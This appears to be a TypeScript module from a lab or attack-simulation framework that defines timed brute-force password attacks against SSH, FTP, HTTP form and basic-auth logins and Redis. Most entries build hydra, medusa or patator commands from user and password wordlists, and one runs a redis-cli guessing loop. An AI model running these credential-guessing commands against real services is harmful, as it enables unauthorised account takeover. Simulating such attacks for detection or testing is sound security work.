import type {Attack, Scene, ServiceName} from "../configuration.ts";

function guess(
  service: ServiceName,
  tool: string,
  needs: string,
  seconds: number,
  argv: (scene: Scene, address: string, port: string) => string[]
): Attack {
  return {
    label: "BruteForce",
    tool,
    needs: [needs],
    against: [service],
    plan(scene) {
      const {address, port} = scene.endpoints[service];
      return {commands: [argv(scene, address, `${port}`)], seconds, to: [address], ports: [port]};
    }
  };
}

const lists = ({folder}: Scene) => [`${folder}/users`, `${folder}/passwords`];

const hydra = (service: ServiceName, name: string, seconds: number, tasks: string, module: readonly string[]) =>
  guess(service, name, "hydra", seconds, (scene, address, port) => {
    const [users, passwords] = lists(scene);
    return ["hydra", "-q", "-I", "-L", users, "-P", passwords, "-t", tasks, "-s", port, address, ...module];
  });

export const hydraSsh = hydra("ssh", "hydra-ssh", 28, "16", ["ssh"]);
export const hydraFtp = hydra("ftp", "hydra-ftp", 18, "10", ["ftp"]);
export const hydraForm = hydra("http", "hydra-form", 15, "8", [
  "http-post-form",
  "/app/login:user=^USER^&pass=^PASS^:failed"
]);
export const hydraBasic = hydra("http", "hydra-basic", 12, "6", ["http-get", "/app/basic"]);
export const hydraRedis = guess("redis", "hydra-redis", "hydra", 12, (scene, address, port) => [
  ...["hydra", "-q", "-I", "-P", `${scene.folder}/passwords`, "-t", "6", "-s", port, address, "redis"]
]);

const medusa = (service: ServiceName, name: string, seconds: number, module: string, tasks: string) =>
  guess(service, name, "medusa", seconds, (scene, address, port) => {
    const [users, passwords] = lists(scene);
    return ["medusa", "-h", address, "-n", port, "-U", users, "-P", passwords, "-M", module, "-t", tasks];
  });

export const medusaSsh = medusa("ssh", "medusa-ssh", 22, "ssh", "4");
export const medusaFtp = medusa("ftp", "medusa-ftp", 16, "ftp", "6");

export const patatorFtp = guess("ftp", "patator-ftp", "patator", 16, (scene, address, port) => {
  const [users, passwords] = lists(scene);
  const tuple = [`host=${address}`, `port=${port}`, "user=FILE0", "password=FILE1", `0=${users}`, `1=${passwords}`];
  return ["patator", "ftp_login", ...tuple, "-t", "6", "--rate-limit=0.1"];
});

export const patatorSsh = guess("ssh", "patator-ssh", "patator", 18, (scene, address, port) => {
  const [users, passwords] = lists(scene);
  const tuple = [`host=${address}`, `port=${port}`, "user=FILE0", "password=FILE1", `0=${users}`, `1=${passwords}`];
  return ["patator", "ssh_login", ...tuple, "-t", "5"];
});

/** patator hands curl an empty entry without it, which curl refuses. */
const unusedResolve = "resolve=unused.example:192.0.2.1";

export const patatorForm = guess("http", "patator-form", "patator", 14, (scene, address, port) => {
  const form = [`url=http://${address}:${port}/app/login`, "method=POST", "body=user=admin&pass=FILE0", unusedResolve];
  return ["patator", "http_fuzz", ...form, `0=${scene.folder}/passwords`, "-t", "5", "-x", "ignore:code=401"];
});

/** A script of its own: one connection a guess. */
export const redisLoop = guess("redis", "redis-loop", "redis-cli", 12, (_, address, port) => {
  const loop = `for i in $(seq 150); do redis-cli -h ${address} -p ${port} --no-auth-warning -a guess$i ping; done`;
  return ["sh", "-c", loop];
});
